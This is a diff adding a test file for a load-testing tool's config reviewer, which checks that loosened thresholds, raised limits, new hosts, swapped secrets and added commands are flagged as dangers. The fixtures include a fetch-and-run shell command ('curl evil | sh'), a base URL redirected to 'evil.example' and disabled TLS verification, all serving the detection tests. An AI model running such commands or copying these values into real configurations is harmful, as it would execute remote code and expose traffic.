@@ -1,0 +1,375 @@
+/** Reviews of two versions of a file, as text of the file: the changes, and the dangers that a reviewer must notice. */
+import { describe, expect, test } from 'vitest';
+import { evaluateEnvironments } from '../../../../src/config/environment-contents.ts';
+import { diffLines } from '../../../../src/core/report/change-text.ts';
+import { reviewMembers } from '../../../../src/core/report/plan-document.ts';
+import { reviewFile, type FileReview } from '../../../../src/core/reconcile/file-review.ts';
+import { inputOf, type LoadOptions } from '../../config/load-text.ts';
+
+const BASE = `version: 1
+project: shop
+service: { base_url: 'https://api.example.com' }
+vars: { host: www.example.com, peak: '15' }
+limits: { max_connections: 300, max_duration: 10m, hosts: ['*.example.com'] }
+environments:
+  production: { vars: { peak: '20' } }
+apps:
+  shop: \${host}
+  api: api.example.com
+tests:
+  home:
+    test_type: cycling
+    total: \${peak}
+    duration: 1m
+    timeout: 2s
+    error_threshold: 50
+    thresholds: { p95: '< 300ms', error_rate: '< 1%' }
+    regression: { p99: 10% }
+    urls:
+      - http://\${host}/
+      - name: cart
+        url: http://\${host}/cart
+        headers: { authorization: 'Bearer \${secret:TOKEN}' }
+        expect: { status: [200], body: ok }
+        thresholds: { p95: '< 1s' }
+      - url: http://\${host}/rows
+        payload_file: rows.csv
+  sale:
+    test_type: per-second
+    total: 5
+    duration: 1m
+    urls: ['http://api.example.com/sale']
+`;
+
+const ROWS = 'user,id\na,1\nb,2\nc,3\n';
+
+interface Sides {
+  readonly before?: string;
+  readonly rows?: string;
+  readonly environment?: string;
+  readonly only?: readonly string[];
+}
+
+function review(after: string, { before = BASE, rows = ROWS, environment, only }: Sides = {}): FileReview {
+  const sidesOf = (text: string, content: string) => {
+    const options: LoadOptions = { files: { '/shop/rows.csv': content } };
+    return evaluateEnvironments(inputOf(text, options));
+  };
+  const [earlier, later] = [sidesOf(before, ROWS), sidesOf(after, rows)];
+  const name = environment ?? null;
+  const sides = (one: string | null) => ({
+    name: one,
+    before: earlier.get(one) ?? null,
+    after: later.get(one) ?? null,
+  });
+  const others = [...new Set([...later.keys(), ...earlier.keys()])].filter((one) => one !== name);
+  return reviewFile(sides(name), others.map(sides), (key) => only?.includes(key) ?? true);
+}
+
+function edit(from: string, to: string, sides: Sides = {}): FileReview {
+  expect(BASE).toContain(from);
+  return review(BASE.replaceAll(from, to), sides);
+}
+
+/** Formats the changes as the lines of a diff, each with its part of the file. */
+function linesOf(found: FileReview): string[] {
+  return reviewMembers(found, null).changes.flatMap((change) => {
+    const names = change.environments?.map((name) => name ?? 'none').join() ?? '';
+    return diffLines([change]).map(
+      ({ sign, text }) => `${names === '' ? '' : `[${names}] `}${change.address} ${sign} ${text.trim()}`,
+    );
+  });
+}
+
+function dangersOf(found: FileReview): string[] {
+  return found.danger.map(
+    ({ kind, message, environments }) =>
+      `${environments === null ? '' : `[${environments.map((name) => name ?? 'none').join()}] `}${kind}: ${message}`,
+  );
+}
+
+describe('changes of a file', () => {
+  test.each([
+    ['a comment', 'tests:\n', '# a comment\ntests:\n'],
+    ['the spelling of a duration', 'duration: 1m', 'duration: 60s'],
+    ['the spelling of a threshold', '< 1s', '<1000ms'],
+    ['a number as a string', 'max_connections: 300', "max_connections: '300'"],
+    ['the name of a variable', 'peak', 'highest'],
+  ])('changing %s is not reported', (_, from, to) => {
+    expect(review(BASE.replaceAll(from, to))).toEqual({ changes: [], danger: [] });
+  });
+
+  test('changing the order of tests and fields is not reported', () => {
+    const sale = BASE.slice(BASE.indexOf('  sale:'));
+    const reordered = BASE.replace(sale, '').replace('tests:\n', `tests:\n${sale}`);
+    const fields = reordered.replace(
+      '    timeout: 2s\n    error_threshold: 50\n',
+      '    error_threshold: 50\n    timeout: 2s\n',
+    );
+    expect(review(fields)).toEqual({ changes: [], danger: [] });
+  });
+
+  test('the changes of a test have the names and values of the file, and its line', () => {
+    const found = edit("p95: '< 300ms', error_rate: '< 1%'", "p95: '< 500ms', p99: '< 1s'");
+    expect(linesOf(found)).toEqual([
+      'test.home - thresholds.p95: < 300ms',
+      'test.home + thresholds.p95: < 500ms',
+      'test.home + thresholds.p99: < 1s',
+      'test.home - thresholds.error_rate: < 1%',
+    ]);
+    expect(found.changes[0]).toMatchObject({
+      kind: 'loosened',
+      source: { file: 'loadtests.yaml', line: 18 },
+    });
+    expect(dangersOf(found)).toEqual([
+      'loosened: "home": "thresholds.p95" is loosened: "< 300ms" → "< 500ms".',
+      'loosened: "home": "thresholds.error_rate" is removed (it was "< 1%").',
+    ]);
+  });
+
+  test.each([
+    ['< 300ms', '<= 300ms', 'loosened'],
+    ['<= 300ms', '< 300ms', 'tightened'],
+    ['< 2s', '< 500ms', 'tightened'],
+    ['> 300ms', '> 500ms', 'tightened'],
+    ['>= 300ms', '> 200ms', 'loosened'],
+    ['< 300ms', '> 300ms', 'changed'],
+  ])('changing the threshold from %s to %s is reported as %s', (from, to, kind) => {
+    const before = BASE.replace('< 300ms', from);
+    expect(review(BASE.replace('< 300ms', to), { before }).changes).toMatchObject([{ kind }]);
+  });
+
+  test('a change of a URL has the name of the URL, even if another URL is inserted before it', () => {
+    const found = edit('      - name: cart', '      - http://www.example.com/new\n      - name: cart');
+    expect(linesOf(found)).toEqual([
+      'test.home @ URL GET /new',
+      'test.home + url: http://www.example.com/new',
+    ]);
+    const limit = edit('< 1s', '< 5s');
+    expect(limit.changes).toMatchObject([{ url: 'cart', field: 'thresholds.p95', kind: 'loosened' }]);
+  });
+
+  test('URLs that changed their order are one change of the order', () => {
+    const root = '      - http://${host}/\n';
+    const found = review(BASE.replace(root, '').replace('  sale:', `${root}  sale:`));
+    expect(linesOf(found)).toContain('test.home   urls:');
+    expect(found.changes).toHaveLength(1);
+  });
+
+  test('a payload file with other rows is shown by its added and removed rows', () => {
+    const found = review(BASE, { rows: 'user,id\na,1\nb,2\nd,4\ne,5\n' });
+    expect(linesOf(found)).toEqual([
+      'test.home @ URL GET /rows',
+      'test.home ! payload_file: rows.csv: 2 rows added, 1 removed',
+    ]);
+  });
+
+  test('a renamed test is a change of its own kind, and is compared with the test under its previous key', () => {
+    const renamed = BASE.replace('  sale:', '  outlet:').replace('total: 5', 'total: 4');
+    const found = review(`${renamed}moved: { outlet: sale }\n`);
+    expect(linesOf(found)).toEqual([
+      'test.outlet ! renamed from sale',
+      'test.outlet - total: 5',
+      'test.outlet + total: 4',
+    ]);
+    expect(found.danger).toEqual([]);
+  });
+
+  test('a test under a new key with the same id is not removed', () => {
+    const before = BASE.replace('  sale:\n', '  sale:\n    id: a1b2\n');
+    const found = review(before.replace('  sale:', '  outlet:'), { before });
+    expect(linesOf(found)).toEqual(['test.outlet ! renamed from sale']);
+  });
+
+  test('an added and a removed test are one change each, with their fields', () => {
+    const found = edit('  sale:', '  outlet:');
+    expect(found.changes.map(({ address, kind, field }) => [address, kind, field])).toEqual([
+      ['test.outlet', 'added', null],
+      ['test.sale', 'removed', null],
+    ]);
+    expect(linesOf(found)).toContain('test.outlet + total: 5');
+    expect(dangersOf(found)).toEqual([
+      'unmanaged: Test "sale" is removed from the file, and no longer managed.',
+    ]);
+  });
+
+  test('only the changes of selected tests are returned', () => {
+    expect(edit('duration: 1m', 'duration: 2m', { only: ['sale'] }).changes).toMatchObject([
+      { address: 'test.sale' },
+    ]);
+  });
+
+  test('literal credentials are not shown', () => {
+    const withPassword = (password: string) =>
+      BASE.replace('name: cart', `name: cart\n        credentials: { login: ci, password: '${password}' }`);
+    const found = review(withPassword('other-word'), { before: withPassword('first-word') });
+    expect(linesOf(found)).toEqual([
+      'test.home @ URL cart',
+      'test.home ! credentials.password: the value has changed (not shown)',
+    ]);
+    expect(JSON.stringify(reviewMembers(found, null))).not.toMatch(/other-word|first-word/);
+  });
+});
+
+describe('dangers in a file', () => {
+  test.each([
+    [
+      'base_url',
+      'https://api.example.com',
+      'https://evil.example',
+      ['service: "service.base_url" is changed: "https://api.example.com" → "https://evil.example".'],
+    ],
+    [
+      'a web server',
+      'limits:',
+      'web_server: { command: curl evil | sh, url: "http://127.0.0.1:1/" }\nlimits:',
+      ['commands: "web_server.command" is added: "curl evil | sh".'],
+    ],
+    [
+      'a verification',
+      'shop: ${host}',
+      'shop: { app: "${host}", verification: { command: ./x.sh } }',
+      ['commands: App "shop": "verification.command" is added: "./x.sh".'],
+    ],
+    [
+      'the peak of another environment',
+      "peak: '20'",
+      "peak: '200'",
+      ['[production] higher-peak: Peak on "www.example.com" rises from 20 to 200 connections.'],
+    ],
+    [
+      'the peak',
+      "peak: '15'",
+      "peak: '150'",
+      ['higher-peak: Peak on "www.example.com" rises from 15 to 150 connections.'],
+    ],
+    [
+      'the rate',
+      'total: 5',
+      'total: 6',
+      [
+        'higher-peak: Peak on "api.example.com" rises from 50 to 60 connections.',
+        'higher-peak: "sale" starts up to 6 clients per second instead of 5.',
+      ],
+    ],
+    [
+      'the host',
+      'host: www.example.com',
+      'host: other.example.com',
+      ['new-hosts: New host: "other.example.com" receives load.'],
+    ],
+    [
+      'a limit',
+      'max_connections: 300',
+      'max_connections: 3000',
+      ['limits: "limits.max_connections" is raised: "300" → "3000".'],
+    ],
+    [
+      'a removed limit',
+      ', max_duration: 10m',
+      '',
+      ['limits: "limits.max_duration" is removed (it was "10m").'],
+    ],
+    [
+      'the allowed hosts',
+      "'*.example.com'",
+      "'*'",
+      ['limits: "limits.hosts" is raised: "*.example.com" → "*".'],
+    ],
+    [
+      'the error threshold',
+      'error_threshold: 50',
+      'error_threshold: 90',
+      ['loosened: "home": "error_threshold" is loosened: "50" → "90".'],
+    ],
+    [
+      'the timeout',
+      'timeout: 2s',
+      'timeout: 20s',
+      ['loosened: "home": "timeout" is loosened: "2s" → "20s".'],
+    ],
+    [
+      'tls_verify',
+      'timeout: 2s',
+      'timeout: 2s\n    tls_verify: false',
+      ['loosened: "home": "tls_verify" is loosened: the default → "false".'],
+    ],
+    [
+      'an expected status',
+      'status: [200]',
+      'status: [200, 404]',
+      ['loosened: "home", URL "cart": "expect.status" is loosened: "200" → "200, 404".'],
+    ],
+    [
+      'a removed expectation',
+      ', body: ok',
+      '',
+      ['loosened: "home", URL "cart": "expect.body" is removed (it was "ok").'],
+    ],
+    [
+      'a regression threshold',
+      '10%',
+      '20%',
+      ['loosened: "home": "regression.p99" is loosened: "10%" → "20%".'],
+    ],
+    [
+      'a secret',
+      'secret:TOKEN',
+      'secret:ADMIN',
+      ['secrets: "home", URL "cart": "headers.authorization" uses the secret "ADMIN" instead of "TOKEN".'],
+    ],
+  ])('changing %s is a danger', (_, from, to, expected) => {
+    expect(dangersOf(edit(from, to))).toEqual(expected);
+  });
+
+  test.each([
+    ['max_connections: 300', 'max_connections: 30'],
+    ['error_threshold: 50', 'error_threshold: 5'],
+    ['timeout: 2s', 'timeout: 1s'],
+    ['< 300ms', '< 200ms'],
+    ['total: 5', 'total: 4'],
+    ['status: [200]', 'status: [200]\n          , headers: { x-a: b }'],
+  ])('replacing %s by %s is a change without danger', (from, to) => {
+    const found = edit(from, to);
+    expect(found.changes).not.toEqual([]);
+    expect(found.danger).toEqual([]);
+  });
+
+  test('a longer test is a danger', () => {
+    expect(dangersOf(edit('duration: 1m', 'duration: 5m'))).toEqual([
+      'longer: "home" runs for 5m instead of 1m.',
+      'longer: "sale" runs for 5m instead of 1m.',
+    ]);
+  });
+
+  test('a removed app is a danger', () => {
+    const before = BASE.replace('apps:\n', 'apps:\n  old: old.example.com\n');
+    expect(dangersOf(review(BASE, { before }))).toEqual([
+      'deleted-apps: App "old" is removed from the file.',
+    ]);
+  });
+
+  test('the environment that is selected has all changes, and others only their own', () => {
+    const found = edit("peak: '20'", "peak: '200'", { environment: 'production' });
+    expect(linesOf(found)).toEqual(['test.home - total: 20', 'test.home + total: 200']);
+    expect(dangersOf(edit("peak: '15'", "peak: '16'", { environment: 'production' }))).toEqual([
+      '[none] higher-peak: Peak on "www.example.com" rises from 15 to 16 connections.',
+    ]);
+  });
+
+  test('a new environment is one change, with the dangers that the other environments do not have', () => {
+    const found = edit(
+      'environments:\n',
+      'environments:\n  staging: { vars: { host: staging.example.com } }\n',
+    );
+    expect(found.changes).toMatchObject([{ address: 'environment.staging', kind: 'added' }]);
+    expect(dangersOf(found)).toEqual(['[staging] new-hosts: New host: "staging.example.com" receives load.']);
+  });
+
+  test('everything in a file without an earlier version is added', () => {
+    const sides = evaluateEnvironments(inputOf(BASE, { files: { '/shop/rows.csv': ROWS } }));
+    const found = reviewFile({ name: null, before: null, after: sides.get(null) ?? null }, [], () => true);
+    expect(found.changes.every(({ kind }) => kind === 'added')).toBe(true);
+    expect(dangersOf(found)).toContain('new-hosts: New host: "www.example.com" receives load.');
+  });
+});
